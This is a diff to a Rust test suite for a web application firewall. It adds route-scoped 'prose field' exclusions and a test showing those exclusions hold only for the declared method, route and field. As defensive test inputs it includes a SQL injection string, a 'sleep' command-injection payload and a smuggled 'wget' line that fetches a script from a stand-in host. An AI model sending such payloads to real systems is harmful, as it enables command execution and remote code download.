@@ -5,7 +5,7 @@
 //! `https://127.0.0.1:<port>` as the embedded default is reached, so the
 //! numeric `Host` is part of what is tested.
 
-use anshin_testkit::anshin::config::WafMode;
+use anshin_testkit::anshin::config::{WafMode, WafProseField};
 use anshin_testkit::reqwest::{StatusCode, header};
 use anshin_testkit::{Backend, TestApp, backends, cookie_pair, set_cookie};
 
@@ -16,6 +16,7 @@ backends!(
     c06_detect_mode_lets_attacks_through_and_logs_them_without_values,
     c06_off_mode_does_not_inspect,
     c06_benign_pages_and_japanese_form_posts_pass,
+    c06_prose_exclusions_hold_only_where_a_route_declares_the_field,
 );
 
 const SQLI: &str = "1' OR '1'='1";
@@ -62,6 +63,21 @@ fn log_lines_of(request_id: &str) -> Vec<String> {
 
 async fn spawn(b: Backend, mode: WafMode) -> TestApp {
     TestApp::spawn_with(b, |s| s.waf.mode = mode).await
+}
+
+fn prose(method: &str, route: &str, field: &str) -> WafProseField {
+    WafProseField {
+        method: method.into(),
+        route: route.into(),
+        field: field.into(),
+    }
+}
+
+/// Block mode with these prose fields declared (`waf.prose_fields`). No
+/// route of the site takes prose yet, so tests stand existing routes in
+/// for the search page and the forms that will.
+async fn spawn_with_prose(b: Backend, fields: Vec<WafProseField>) -> TestApp {
+    TestApp::spawn_with(b, |s| s.waf.prose_fields = fields).await
 }
 
 fn query(value: &str) -> String {
@@ -307,7 +323,16 @@ async fn c06_off_mode_does_not_inspect(b: Backend) {
 }
 
 async fn c06_benign_pages_and_japanese_form_posts_pass(b: Backend) {
-    let app = spawn(b, WafMode::Block).await;
+    // The language form's `note` and the home page's `q` stand in for
+    // prose fields (a message, a search).
+    let app = spawn_with_prose(
+        b,
+        vec![
+            prose("POST", "/settings/language", "note"),
+            prose("GET", "/", "q"),
+        ],
+    )
+    .await;
     for path in ["/", "/settings/language"] {
         let res = app.client.get(app.url(path)).send().await.unwrap();
         assert_eq!(res.status(), StatusCode::OK, "{path}");
@@ -365,5 +390,71 @@ async fn c06_benign_pages_and_japanese_form_posts_pass(b: Backend) {
         n += 1;
     }
     assert!(n >= 200);
+    app.stop().await;
+}
+
+/// Issue 19: the prose exclusions used to hold for an argument name on
+/// every path (`/?q=a;sleep 60;` passed, `/?x=a;sleep 60;` was blocked).
+/// Now they hold for the (method, route, field) that declares it only.
+async fn c06_prose_exclusions_hold_only_where_a_route_declares_the_field(b: Backend) {
+    let attack = "a;sleep 60;";
+    // Nothing declared (the site today): blocked whatever the name.
+    let app = spawn(b, WafMode::Block).await;
+    for name in ["q", "x"] {
+        let res = app
+            .client
+            .get(app.url(&format!("/?{name}={}", query(attack))))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), StatusCode::FORBIDDEN, "/?{name}=");
+    }
+    app.stop().await;
+
+    let app = spawn_with_prose(b, vec![prose("POST", "/settings/language", "note")]).await;
+    let (cookie, token) = form_session(&app).await;
+    let post = |fields: Vec<(&'static str, String)>| {
+        let mut form = vec![("lang", "en".to_owned()), ("csrf_token", token.clone())];
+        form.extend(fields);
+        app.client
+            .post(app.url("/settings/language"))
+            .header(header::COOKIE, &cookie)
+            .form(&form)
+            .send()
+    };
+    // The declared field on its route and method: passes.
+    let res = post(vec![("note", attack.to_owned())]).await.unwrap();
+    assert_eq!(res.status(), StatusCode::SEE_OTHER, "declared field passes");
+    // The same text in another field of that route: blocked.
+    let res = post(vec![("q", attack.to_owned())]).await.unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN, "undeclared field");
+    // The same field name on another route, or another method: blocked.
+    let res = app
+        .client
+        .get(app.url(&format!("/?note={}", query(attack))))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN, "GET /?note=");
+    let res = app
+        .client
+        .get(app.url(&format!("/settings/language?note={}", query(attack))))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN, "GET on the route");
+    let res = app
+        .client
+        .put(app.url("/api/v1/preferences/language"))
+        .json(&serde_json::json!({ "lang": "ja", "note": attack }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN, "JSON elsewhere");
+    // A command after a separator stays blocked in the declared field.
+    let res = post(vec![("note", "x; wget http://203.0.113.9/a.sh".to_owned())])
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN, "the narrower net");
     app.stop().await;
 }
